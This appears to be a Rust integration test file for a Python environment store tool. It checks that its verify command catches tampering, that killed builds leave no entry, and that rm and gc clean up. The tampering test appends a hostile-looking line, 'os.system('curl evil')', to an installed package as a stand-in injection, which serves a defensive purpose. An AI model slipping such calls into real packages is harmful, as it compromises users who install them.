//! The store: verify catches tampering, a killed build leaves no entry, rm and gc.

use std::time::{Duration, Instant};

use crate::common::*;

#[test]
fn verify_names_tampered_missing_and_added_files() {
    let dir = scratch();
    let store = dir.path();
    rootfs(
        store,
        &["build", "--profile", "minimal", "--extra", "tabulate"],
    )
    .ok();
    let ok = rootfs(store, &["verify", "minimal"]).ok().stdout.clone();
    assert!(ok.contains("minimal: ok"), "{ok}");

    let env = env_dir(store, "minimal");
    let site = std::fs::read_dir(env.join("lib"))
        .unwrap()
        .flatten()
        .next()
        .unwrap()
        .path()
        .join("site-packages");
    let victim = site.join("tabulate/__init__.py");
    let mut text = std::fs::read_to_string(&victim).unwrap();
    text.push_str("\nimport os; os.system('curl evil')\n");
    std::fs::write(&victim, text).unwrap();
    std::fs::remove_file(env.join("pyvenv.cfg")).unwrap();
    std::fs::write(env.join("bin/sneaky"), "#!/bin/sh\n").unwrap();

    let out = rootfs(store, &["verify", "minimal"]);
    assert_eq!(out.code, 1, "{out:?}");
    let rel_victim = victim
        .strip_prefix(&env)
        .unwrap()
        .to_str()
        .unwrap()
        .to_string();
    assert!(
        out.stdout.contains(&format!("changed  {rel_victim}")),
        "{}",
        out.stdout
    );
    assert!(out.stdout.contains("missing  pyvenv.cfg"), "{}", out.stdout);
    assert!(out.stdout.contains("added    bin/sneaky"), "{}", out.stdout);
    assert!(
        out.stderr
            .contains("was modified (1 changed, 1 missing, 1 added)"),
        "{}",
        out.stderr
    );

    // A mode change (e.g. a file made setuid) is a change too.
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(
        env.join("bin/activate"),
        std::fs::Permissions::from_mode(0o4755),
    )
    .unwrap();
    let out = rootfs(store, &["verify", "minimal"]);
    assert_eq!(out.code, 1);
    assert!(
        out.stdout.contains("changed  bin/activate"),
        "{}",
        out.stdout
    );
}

#[test]
fn killed_build_leaves_no_entry_and_gc_removes_its_temp_dir() {
    let dir = scratch();
    let store = dir.path();
    let mut child = rootfs_cmd(store, &["build", "--profile", "analysis", "--name", "half"])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    // Wait until it is installing: the lock is resolved and written in its temp dir.
    let deadline = Instant::now() + Duration::from_secs(300);
    let temp = loop {
        let found = std::fs::read_dir(store.join("tmp"))
            .ok()
            .and_then(|mut d| d.find_map(|e| e.ok()))
            .map(|e| e.path())
            .filter(|p| p.join("lock.txt").exists());
        if let Some(path) = found {
            break path;
        }
        assert!(
            child.try_wait().unwrap().is_none(),
            "the build ended before it could be killed"
        );
        assert!(
            Instant::now() < deadline,
            "the build never got to installing"
        );
        std::thread::sleep(Duration::from_millis(20));
    };
    std::thread::sleep(Duration::from_millis(300));
    child.kill().unwrap();
    child.wait().unwrap();
    assert!(
        temp.exists(),
        "the half-built temp dir should still be there for gc"
    );

    // Its installer died with it (PR_SET_PDEATHSIG): nothing writes into the temp dir.
    std::thread::sleep(Duration::from_millis(300));
    let temp_str = temp.to_string_lossy().into_owned();
    let writers: Vec<String> = std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter_map(|e| std::fs::read(e.path().join("cmdline")).ok())
        .map(|c| String::from_utf8_lossy(&c).replace('\0', " "))
        .filter(|c| c.contains(&temp_str))
        .collect();
    assert!(writers.is_empty(), "still running: {writers:?}");

    let list = rootfs(store, &["list", "--json"]).ok().json();
    assert_eq!(list, serde_json::json!([]));
    let show = rootfs(store, &["show", "half"]);
    assert_ne!(show.code, 0);
    assert!(show.stderr.contains("not found"), "{}", show.stderr);

    let gc = rootfs(store, &["gc"]).ok().stdout.clone();
    assert!(gc.contains("removed unfinished build build-half-"), "{gc}");
    assert!(!temp.exists());
    assert_nothing_left(store);
}

#[test]
fn rm_removes_the_name_and_unshared_files() {
    let dir = scratch();
    let store = dir.path();
    rootfs(store, &["build", "--profile", "minimal", "--name", "a"]).ok();
    rootfs(store, &["build", "--profile", "minimal", "--name", "b"]).ok();
    let env_a = env_dir(store, "a");
    // Same content, one object.
    assert_eq!(env_a, env_dir(store, "b"));
    let out = rootfs(store, &["rm", "a"]).ok().stdout.clone();
    assert!(out.contains("shared with another name"), "{out}");
    assert!(env_a.exists());
    rootfs(store, &["rm", "b"]).ok();
    assert!(!env_a.exists());
    assert_nothing_left(store);
    let again = rootfs(store, &["rm", "b"]);
    assert_eq!(again.code, 1);
    assert!(
        again.stderr.contains("rootfs `b` not found"),
        "{}",
        again.stderr
    );
}
